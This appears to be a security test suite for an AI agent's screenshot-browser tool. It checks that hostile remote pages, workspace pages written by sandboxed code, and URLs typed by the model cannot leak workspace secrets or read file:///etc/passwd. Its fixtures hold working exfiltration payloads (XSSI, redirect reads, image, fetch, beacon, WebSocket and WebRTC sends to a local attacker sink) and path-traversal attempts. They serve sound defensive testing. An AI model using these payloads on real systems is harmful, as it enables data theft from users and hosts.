"""Attacks on the screenshot browser's origins (class 16): no workspace byte reaches a host.

Real Chromium (Playwright) against real HTTP servers on 127.0.0.1: an ``Attacker`` that
serves hostile pages and records every request, an intranet server, a UDP canary. The
loopback address is allowed (``browser(allow=["127.0.0.1"])``), so nothing here is stopped
by the address rules: what must hold is the origin design. A remote page cannot reach the
workspace (redirects, XSSI, cross-origin reads, navigation), a workspace page (which
sandboxed code can write) makes no request at all and sees only its own directory, and the
model cannot type its way to ``file://``, ``view-source:``, ``chrome://`` and the like.
"""

from __future__ import annotations

import asyncio
import html
import importlib
import io
import secrets
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from browser_support import CI, Attacker, UdpCanary, chromium_missing
from figures import figure
from loopwise.errors import ModelRetry

pytestmark = pytest.mark.slow

TOKEN = "LWSECRET" + secrets.token_hex(8)
HOST_TOKEN = "LWHOSTONLY" + secrets.token_hex(8)
INTRANET_TOKEN = "LWINTRANET" + secrets.token_hex(8)
PASSWD = "root:x:0:0"
NEEDLES = (TOKEN, HOST_TOKEN, INTRANET_TOKEN, PASSWD)
KNOWN_ORIGIN = "http://workspace.loopwise.invalid"  # the attacker is told the origin
RED = (192, 0, 0)


@dataclass
class Tally:
    """Vectors tried and held per group, for the figure."""

    tried: dict[str, int] = field(default_factory=dict)
    held: int = 0
    shots: int = 0
    leaked_bytes: int = 0
    workspace_requests: int = 0

    @contextmanager
    def group(self, name: str, n: int) -> Iterator[None]:
        """Count ``n`` vectors as tried; as held only if the checks in the block pass."""
        self.tried[name] = self.tried.get(name, 0) + n
        yield
        self.held += n


TALLY = Tally()


@pytest.fixture(scope="module", autouse=True)
def _needs_chromium() -> Iterator[None]:
    reason = chromium_missing()
    if reason is not None:
        if CI:
            pytest.fail(f"CI must run the browser tests: {reason}")
        pytest.skip(reason)
    started = time.perf_counter()
    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(
            "loopwise.toolkits._browserfetch.new_workspace_origin",
            lambda: KNOWN_ORIGIN,
            raising=False,
        )
        yield
    total = sum(TALLY.tried.values())
    groups = ", ".join(f"{k} {v}" for k, v in TALLY.tried.items())
    figure(
        f"browser origins (class 16): {total} vectors tried ({groups}) with real Chromium; "
        f"workspace/host bytes leaked = {TALLY.leaked_bytes}, requests from workspace "
        f"pages = {TALLY.workspace_requests}, held {TALLY.held}/{total}; {TALLY.shots} "
        f"screenshot calls in {time.perf_counter() - started:.0f} s"
    )


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    server = Attacker()
    yield server
    server.close()


@pytest.fixture(scope="module")
def intranet() -> Iterator[Attacker]:
    server = Attacker({"/private": f"<html><body>{INTRANET_TOKEN}</body></html>".encode()})
    yield server
    server.close()


@pytest.fixture(scope="module")
def outside(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A directory next to the workspace, holding a host file a symlink points to."""
    out = tmp_path_factory.mktemp("outside")
    (out / "red.html").write_text(f"<body style='background:#c00000'>{HOST_TOKEN}</body>")
    return out


def make_workspace(root: Path, outside: Path) -> Path:
    """Secrets at the root and in site/, a hidden file, a symlink leading out."""
    ws = root / "ws"
    (ws / "site").mkdir(parents=True)
    red = f"<html><body style='background:#c00000'>{TOKEN}</body></html>"
    files = {
        "secret.txt": f"{TOKEN} at the workspace root\n",
        "secret.js": f'var LW_SECRET = "{TOKEN}";\n',
        "secret2.js": f'var LW_SECRET2 = "{TOKEN}";\n',
        "secret.html": red,
        "secret.css": f'.k {{ --secret: "{TOKEN}"; }}\n',
        ".env": f"API_KEY={TOKEN}\n",
        "site/notes.txt": f"{TOKEN} next to the page\n",
        "site/.hidden.html": red,
    }
    for name, text in files.items():
        (ws / name).write_text(text)
    (ws / "site" / "link.html").symlink_to(outside / "red.html")
    return ws


def shoot(tools: list[Any], target: str) -> tuple[str, bytes | None]:
    """Call ``screenshot`` directly: (the note or the error, the PNG or None)."""
    import base64

    TALLY.shots += 1
    try:
        note, image = asyncio.run(tools[0].function(target=target, full_page=False))
    except ModelRetry as exc:
        return f"error: {exc.message}", None
    return str(note), base64.b64decode(image.data)


def pixel(png: bytes, xy: tuple[int, int]) -> tuple[int, ...]:
    from PIL import Image

    with Image.open(io.BytesIO(png)) as im:
        return tuple(im.convert("RGB").getpixel(xy))  # type: ignore[arg-type]


def leaks(server: Attacker) -> dict[str, int]:
    """Vector name -> secret bytes its requests carried (only vectors that leaked)."""
    found: dict[str, int] = {}
    for record in server.records:
        line = record.split(b"\n", 1)[0].decode(errors="replace")
        vector = line.split("v=", 1)[1].split("&", 1)[0] if "v=" in line else line
        n = sum(record.count(s.encode()) * len(s) for s in NEEDLES)
        if n:
            found[vector] = found.get(vector, 0) + n
    return found


def reports(server: Attacker) -> set[str]:
    """The vector names that reached the sink (attacks that ran and reported back)."""
    found = set()
    for record in list(server.records):
        line = record.split(b"\n", 1)[0].decode(errors="replace")
        if "v=" in line:
            found.add(line.split("v=", 1)[1].split("&", 1)[0].split(" ", 1)[0])
    return found


def sink(server: Attacker, vector: str, data: str = "") -> str:
    return f"{server.url}/x?v={vector}&d={data}"


def redir(server: Attacker, to: str) -> str:
    return f"{server.url}/redir?to={quote(to, safe='')}"


JS_HELPERS = """
function q(v, d) { return S + "?v=" + v + "&d=" + encodeURIComponent(String(d)); }
function send(v, d) { new Image().src = q(v, d); }
function t(v, f) { try { f(); } catch (e) { send(v, "ERR " + e); } }
function sx(u) {
  try { var x = new XMLHttpRequest(); x.open("GET", u, false); x.send(); return x.responseText; }
  catch (e) { return "ERR " + e; }
}
function ft(v, u, o) {
  t(v, function () { fetch(u, o).then(function (x) { return x.text(); })
    .then(function (d) { send(v, d); }, function (e) { send(v, "ERR " + e); }); });
}
function frame(v, u, tag) {
  var f = document.createElement(tag || "iframe");
  if (tag) { f.data = u; } else { f.src = u; }
  f.onload = function () {
    t(v, function () { send(v, f.contentDocument.documentElement.outerHTML); }); };
  document.documentElement.appendChild(f);
}
function sheet(v, el) {
  t(v, function () { var s = "", r = el.sheet.cssRules;
    for (var i = 0; i < r.length; i++) { s += r[i].cssText; } send(v, s); });
}
"""


def remote_attack_page(a: Attacker, intranet: Attacker) -> tuple[str, int]:
    """A hostile public page reading the workspace, host files and an intranet page."""
    w, i = KNOWN_ORIGIN, intranet.url
    r = lambda u: redir(a, u)  # noqa: E731
    page = f"""<html><head><title>attack</title><script>
var S = "{a.url}/x";
{JS_HELPERS}
send("xhr-redirect", sx("{r(w + "/secret.txt")}"));
send("xhr-direct", sx("{w}/secret.txt"));
send("xhr-redirect-file", sx("{r("file:///etc/passwd")}"));
send("xhr-file", sx("file:///etc/passwd"));
send("xhr-redirect-intranet", sx("{r(i + "/private")}"));
ft("fetch-redirect", "{r(w + "/secret.txt")}");
ft("fetch-direct", "{w}/secret.txt");
ft("fetch-no-cors", "{w}/secret.txt", {{mode: "no-cors"}});
ft("fetch-file", "file:///etc/passwd");
ft("fetch-redirect-intranet", "{r(i + "/private")}");
ft("fetch-intranet", "{i}/private");
</script>
<script src="{w}/secret.js"></script>
<script>send("script-xssi", typeof LW_SECRET === "undefined" ? "none" : LW_SECRET);</script>
<script src="{r(w + "/secret2.js")}"></script>
<script>send("script-xssi-redirect", typeof LW_SECRET2 === "undefined" ? "none" : LW_SECRET2);
</script>
<link rel="stylesheet" href="{r(w + "/secret.css")}" onload="sheet('css-redirect', this)">
<link rel="stylesheet" href="{w}/secret.css" onload="sheet('css-direct', this)">
</head><body><script>
frame("iframe-redirect", "{r(w + "/secret.html")}");
frame("iframe-direct", "{w}/secret.html");
frame("iframe-file", "file:///etc/passwd");
frame("iframe-redirect-intranet", "{r(i + "/private")}");
frame("object-redirect", "{r(w + "/secret.html")}", "object");
t("window-open", function () {{
  var p = window.open("{r(w + "/secret.html")}");
  setTimeout(function () {{
    t("window-open", function () {{ send("window-open", p.document.body.innerHTML); }}); }}, 900);
}});
</script>{opaque_origin_frames(a, intranet)}<img src="/slow"></body></html>"""
    return page, 24  # 5 XHR, 6 fetch, 2 script, 2 stylesheet, 4 iframe, object, popup, 3 null


def opaque_origin_frames(a: Attacker, intranet: Attacker) -> str:
    """Frames whose origin is ``null`` (sandboxed, data:) reading cross-origin responses."""

    def reader(vector: str, url: str) -> str:
        sink_url = f"{a.url}/x?v={vector}&d="
        return (
            f"<script>fetch('{url}').then(function (r) {{ return r.text(); }}).then("
            f"function (d) {{ new Image().src = '{sink_url}' + encodeURIComponent(d); }}, "
            f"function (e) {{ new Image().src = '{sink_url}ERR'; }});</script>"
        )

    sandboxed = html.escape(reader("null-origin-intranet", f"{intranet.url}/private"))
    workspace = html.escape(reader("null-origin-workspace", f"{KNOWN_ORIGIN}/secret.txt"))
    data_url = "data:text/html," + quote(reader("data-url-intranet", f"{intranet.url}/private"))
    return (
        f'<iframe sandbox="allow-scripts" srcdoc="{sandboxed}"></iframe>'
        f'<iframe sandbox="allow-scripts" srcdoc="{workspace}"></iframe>'
        f'<iframe src="{data_url}"></iframe>'
    )


RAN_REMOTE = {
    *("xhr-redirect", "xhr-direct", "xhr-redirect-file", "xhr-file", "xhr-redirect-intranet"),
    *("fetch-redirect", "fetch-direct", "fetch-no-cors", "fetch-file", "fetch-redirect-intranet"),
    *("fetch-intranet", "script-xssi", "script-xssi-redirect", "iframe-redirect"),
    *("iframe-direct", "iframe-redirect-intranet", "object-redirect", "window-open"),
}
"""The attacks that always report back. A stylesheet or file frame that fails to load cannot;
requests from opaque-origin frames (a process of their own) sometimes escape Playwright's
interception and die at the refusing proxy, report included."""


def test_remote_page_cannot_read_the_workspace(
    attacker: Attacker, intranet: Attacker, tmp_path: Path, outside: Path
) -> None:
    """XSSI, redirects into the workspace, cross-origin reads, file:// and intranet reads."""
    from loopwise.toolkits import browser

    ws = make_workspace(tmp_path, outside)
    page, vectors = remote_attack_page(attacker, intranet)
    attacker.pages["/attack"] = page.encode()
    attacker.hold, attacker.done = 5.0, lambda: RAN_REMOTE <= reports(attacker)
    note, png = shoot(browser(workspace=ws, allow=["127.0.0.1"]), attacker.url + "/attack")
    assert png is not None, note  # the attack page itself loads: the test is not vacuous
    asyncio.run(asyncio.sleep(0.3))
    missing = RAN_REMOTE - reports(attacker)
    assert not missing, f"these attacks did not run, so they prove nothing: {missing}"
    leaked = leaks(attacker)
    TALLY.leaked_bytes += sum(leaked.values())
    with TALLY.group("remote page", vectors):
        assert leaked == {}, f"leaked to the attacker: {leaked}"


def test_remote_navigation_cannot_enter_the_workspace(
    attacker: Attacker, tmp_path: Path, outside: Path
) -> None:
    """Top-level redirects and navigations into the workspace origin or to file://."""
    from loopwise.toolkits import browser

    ws = make_workspace(tmp_path, outside)
    (ws / "site" / "exfil.html").write_text(exfil_page(attacker))
    tools = browser(workspace=ws, allow=["127.0.0.1"])
    inside = KNOWN_ORIGIN + "/site/exfil.html"
    attacker.pages["/nav-ws"] = f"<script>location.href = '{inside}';</script>".encode()
    attacker.pages["/nav-file"] = b"<script>location.href = 'file:///etc/passwd';</script>"
    attacker.pages["/open-ws"] = f"<script>window.open('{inside}');</script>".encode()
    targets = {
        "redirect-into-workspace": redir(attacker, inside),
        "redirect-into-workspace-js": redir(attacker, KNOWN_ORIGIN + "/secret.js"),
        "redirect-to-file": redir(attacker, "file:///etc/passwd"),
        "navigate-into-workspace": attacker.url + "/nav-ws",
        "navigate-to-file": attacker.url + "/nav-file",
        "popup-into-workspace": attacker.url + "/open-ws",
    }
    notes = {name: shoot(tools, url)[0] for name, url in targets.items()}
    asyncio.run(asyncio.sleep(0.3))
    leaked = leaks(attacker)
    TALLY.leaked_bytes += sum(leaked.values())
    with TALLY.group("remote navigation", len(targets)):
        assert leaked == {}, f"leaked to the attacker: {leaked}"
        for name, note in notes.items():
            assert TOKEN not in note and PASSWD not in note, name
            if not note.startswith("error: "):  # a screenshot: of the attacker's page, still
                assert note.startswith(f"Screenshot of {attacker.url}/"), (name, note)
                assert "went on to" not in note, (name, note)  # not the workspace, not file:


def exfil_page(a: Attacker, udp: int | None = None) -> str:
    """A workspace page, as sandboxed code could write it, sending files out by script."""
    udp_part = ""
    if udp is not None:
        udp_part = f"""
t("webrtc", function () {{
  var pc = new RTCPeerConnection({{iceServers: [{{urls: "stun:127.0.0.1:{udp}"}},
    {{urls: "turn:127.0.0.1:{udp}?transport=udp", username: "u" + d.slice(0, 20),
      credential: "x"}}]}});
  pc.createDataChannel("x");
  pc.createOffer().then(function (o) {{ return pc.setLocalDescription(o); }});
}});
t("webtransport", function () {{
  new WebTransport("https://127.0.0.1:{udp}/" + encodeURIComponent(d)); }});
var end = Date.now() + 1500; while (Date.now() < end) {{}}"""
    return f"""<html><head><title>report</title><script>
var S = "{a.url}/x";
{JS_HELPERS}
var d = sx("notes.txt") + sx("../secret.txt") + sx("../.env");
document.title = d.indexOf("{TOKEN}") >= 0 ? "scripts ran and read" : "scripts ran";
t("js-img", function () {{ document.write('<img src="' + q("js-img", d) + '">'); }});
t("js-image", function () {{ send("js-image", d); }});
ft("js-fetch", q("js-fetch", d));
t("js-fetch-post", function () {{ fetch(q("js-fetch-post", ""), {{method: "POST", body: d}}); }});
t("js-beacon", function () {{ navigator.sendBeacon(q("js-beacon", ""), d); }});
t("js-ws", function () {{ new WebSocket(q("js-ws", d).replace("http", "ws")); }});
t("js-sse", function () {{ new EventSource(q("js-sse", d)); }});
t("js-xhr", function () {{
  var x = new XMLHttpRequest(); x.open("GET", q("js-xhr", d)); x.send(); }});
t("js-prefetch", function () {{ var l = document.createElement("link"); l.rel = "prefetch";
  l.href = q("js-prefetch", d); document.head.appendChild(l); }});
t("js-import", function () {{ import(q("js-import", d)).catch(function () {{}}); }});
t("js-worker", function () {{ new Worker(q("js-worker", d)); }});
t("js-iframe", function () {{
  document.write('<iframe src="' + q("js-iframe", d) + '"></iframe>'); }});
t("js-css", function () {{
  document.write('<style>body{{background:url(' + q("js-css", d) + ')}}</style>'); }});
t("js-audio", function () {{ new Audio(q("js-audio", d)).load(); }});
t("js-sw", function () {{ navigator.serviceWorker.register("sw.js"); }});{udp_part}
</script></head><body>report</body></html>"""


JS_VECTORS = 16


def static_page(a: Attacker) -> tuple[str, int]:
    """A workspace page with the secret written into every kind of static request."""
    u = lambda v: sink(a, v, TOKEN)  # noqa: E731
    tags = [
        f'<link rel="stylesheet" href="{u("link-css")}">',
        f'<link rel="icon" href="{u("icon")}">',
        f'<link rel="prefetch" href="{u("prefetch")}">',
        f'<link rel="preload" as="image" href="{u("preload")}">',
        f'<link rel="prerender" href="{u("prerender")}">',
        f'<link rel="manifest" href="{u("manifest")}">',
        f'<link rel="preconnect" href="http://localhost:{a.url.rsplit(":", 1)[1]}">',
        f'<link rel="dns-prefetch" href="//{TOKEN.lower()}.example.com">',
        f'<style>@import url("{u("css-import")}");</style>',
        f'<style>body{{background:url("{u("css-url")}")}}</style>',
        f'<style>@font-face{{font-family:x;src:url("{u("font")}")}} p{{font-family:x}}</style>',
        f'<script src="{u("script")}"></script>',
        f'<img src="{u("img")}">',
        f'<img srcset="{u("srcset")} 1x">',
        f'<picture><source srcset="{u("picture")}"><img alt=""></picture>',
        f'<video poster="{u("poster")}" src="{u("video")}"></video>',
        f'<audio src="{u("audio")}" preload="auto"></audio>',
        f'<input type="image" src="{u("input-image")}">',
        f'<iframe src="{u("iframe")}"></iframe>',
        f'<object data="{u("object")}"></object>',
        f'<embed src="{u("embed")}">',
        f'<svg><image href="{u("svg-image")}" width="9" height="9"/></svg>',
        f'<table background="{u("table-bg")}"><tr><td>x</td></tr></table>',
        f"<iframe srcdoc=\"<img src='{u('srcdoc')}'>\"></iframe>",
        f'<img src="http://localhost:{a.url.rsplit(":", 1)[1]}/x?v=by-name&d={TOKEN}">',
        f"<iframe sandbox srcdoc=\"<img src='{u('sandboxed-srcdoc')}'>\"></iframe>",
        f"<iframe sandbox src=\"data:text/html,<img src='{u('sandboxed-data')}'>\"></iframe>",
        '<iframe sandbox src="frame.html"></iframe>',
    ]
    body = "\n".join(tags)
    return (
        f"<html><head><title>static</title></head><body background='{u('body-bg')}'>"
        f"<p>text</p>{body}</body></html>",
        len(tags) + 1,
    )


def navigation_pages(a: Attacker) -> dict[str, str]:
    """Workspace pages that navigate themselves (or a popup) to the attacker or file://."""
    u = lambda v: sink(a, v, TOKEN)  # noqa: E731
    return {
        "nav-refresh.html": f'<meta http-equiv="refresh" content="0;url={u("refresh")}">',
        "nav-refresh-file.html": '<meta http-equiv="refresh" content="0;url=file:///etc/passwd">',
        "nav-base.html": f'<base href="{a.url}/x/{TOKEN}/"><img src="b.png">'
        '<link rel="stylesheet" href="c.css">',
        "nav-location.html": f'<script>location.href = "{u("location")}";</script>',
        "nav-open.html": f'<script>window.open("{u("open")}");</script>',
        "nav-form.html": f'<form id="f" action="{a.url}/x"><input name="v" value="form">'
        f'<input name="d" value="{TOKEN}"></form>'
        '<script>document.getElementById("f").submit();</script>',
        "nav-file.html": '<script>location.href = "file:///etc/passwd";</script>',
        "nav-view-source.html": '<script>location.href = "view-source:file:///etc/passwd";'
        "</script>",
    }


TOP_LEVEL = ("nav-refresh.html", "nav-file.html")
"""Navigations tried by the page itself; the others run in frames of one page."""


def write_pages(ws: Path, attacker: Attacker, udp: int | None = None) -> tuple[list[str], int]:
    """Every hostile workspace page into ws/site: their names and the vectors they hold."""
    static, n_static = static_page(attacker)
    frame = f"<img src='{sink(attacker, 'sandboxed-frame', TOKEN)}'>"
    pages = {"static.html": static, "exfil.html": exfil_page(attacker, udp), "frame.html": frame}
    navigations = navigation_pages(attacker)
    pages.update(navigations)
    framed = [name for name in navigations if name not in TOP_LEVEL]
    pages["navs.html"] = "".join(f"<iframe src='{name}'></iframe>" for name in framed)
    for name, text in pages.items():
        (ws / "site" / name).write_text(text)
    shots = ["static.html", "exfil.html", *TOP_LEVEL, "navs.html"]
    return shots, n_static + JS_VECTORS + (2 if udp else 0) + len(navigations)


def attack_workspace_pages(
    attacker: Attacker, ws: Path, group: str, udp: UdpCanary | None = None
) -> dict[str, str]:
    """Screenshot every hostile page; assert nothing left; return the notes."""
    from loopwise.toolkits import browser

    shots, vectors = write_pages(ws, attacker, udp.port if udp else None)
    tools = browser(workspace=ws, allow=["127.0.0.1"])
    notes = {name: shoot(tools, "site/" + name)[0] for name in shots}
    asyncio.run(asyncio.sleep(0.5))
    leaked = leaks(attacker)
    datagrams = len(udp.datagrams) if udp else 0
    TALLY.leaked_bytes += sum(leaked.values())
    TALLY.workspace_requests += attacker.connections + datagrams
    with TALLY.group(group, vectors):
        assert leaked == {}, f"leaked to the attacker: {leaked}"
        assert attacker.connections == 0, attacker.records[:5]
        assert datagrams == 0, udp and udp.datagrams
        assert "title 'static'" in notes["static.html"], notes["static.html"]
        for name, note in notes.items():
            assert PASSWD not in note and "file:" not in note.split(" (", 1)[0], (name, note)
    return notes


def test_workspace_page_makes_no_request(attacker: Attacker, tmp_path: Path, outside: Path) -> None:
    """Static tags, scripts and self-navigation in a workspace page: no request leaves."""
    notes = attack_workspace_pages(attacker, make_workspace(tmp_path, outside), "workspace page")
    assert "title 'report'" in notes["exfil.html"], notes["exfil.html"]  # scripts are off


def test_no_request_leaves_even_with_javascript_on(
    attacker: Attacker, tmp_path: Path, outside: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The network layer alone (scripts on, no CSP): no HTTP, WebSocket, WebRTC or QUIC."""
    # The package's name "browser" is the function; the module is in sys.modules.
    module = importlib.import_module("loopwise.toolkits.browser")
    monkeypatch.setattr(module, "_WORKSPACE_JAVASCRIPT", True, raising=False)
    ws = make_workspace(tmp_path, outside)
    udp = UdpCanary()
    try:
        notes = attack_workspace_pages(attacker, ws, "workspace page, scripts on", udp)
    finally:
        udp.close()
    assert "title 'scripts ran and read'" in notes["exfil.html"], notes["exfil.html"]


def test_workspace_page_sees_only_its_own_directory(
    attacker: Attacker, tmp_path: Path, outside: Path
) -> None:
    """A page frames a symlink out of the workspace, a parent-directory file, a hidden file."""
    from loopwise.toolkits import browser

    ws = make_workspace(tmp_path, outside)
    style = "position:absolute;border:0;width:400px;height:300px"
    frames = {
        "link.html": (0, 0),
        "../secret.html": (420, 0),
        "%2e%2e/secret.html": (840, 0),
        ".hidden.html": (0, 320),
        "sub/../../secret.html": (420, 320),
        "/secret.html": (840, 320),
    }
    html = "".join(
        f"<iframe src='{src}' style='{style};left:{x}px;top:{y}px'></iframe>"
        for src, (x, y) in frames.items()
    )
    (ws / "site" / "frames.html").write_text(
        f"<html><head><title>frames</title></head><body style='margin:0'>{html}</body></html>"
    )
    note, png = shoot(browser(workspace=ws, allow=["127.0.0.1"]), "site/frames.html")
    assert png is not None, note
    shown = [src for src, (x, y) in frames.items() if pixel(png, (x + 200, y + 150)) == RED]
    with TALLY.group("workspace confinement", len(frames)):
        assert shown == [], f"shown to the model from outside the page's directory: {shown}"


def test_targets_the_model_may_type(attacker: Attacker, tmp_path: Path, outside: Path) -> None:
    """file://, view-source:, chrome://, data:, blob:, javascript:, the workspace origin."""
    from loopwise.toolkits import browser

    ws = make_workspace(tmp_path, outside)
    tools = browser(workspace=ws, allow=["127.0.0.1"])
    exfil = sink(attacker, "typed", "x")
    targets = [
        "file:///etc/passwd",
        "FILE:///etc/passwd",
        " file:///etc/passwd",
        "file:/etc/passwd",
        "/etc/passwd",
        "view-source:file:///etc/passwd",
        f"view-source:{attacker.url}/",
        "chrome://version",
        "about:blank",
        f"data:text/html,<img src='{exfil}'>",
        f"javascript:fetch('{exfil}')",
        f"blob:{attacker.url}/x",
        KNOWN_ORIGIN + "/secret.txt",
        "http://0123abcd.workspace.loopwise.invalid/secret.txt",
        "../outside/red.html",
        "site/link.html",
        ".env",
        "site/.hidden.html",
    ]
    results = {t: shoot(tools, t) for t in targets}
    with TALLY.group("typed targets", len(targets)):
        assert attacker.connections == 0
        for target, (note, png) in results.items():
            assert png is None, (target, note)
            assert note.startswith("error: ")
            assert TOKEN not in note and HOST_TOKEN not in note and PASSWD not in note
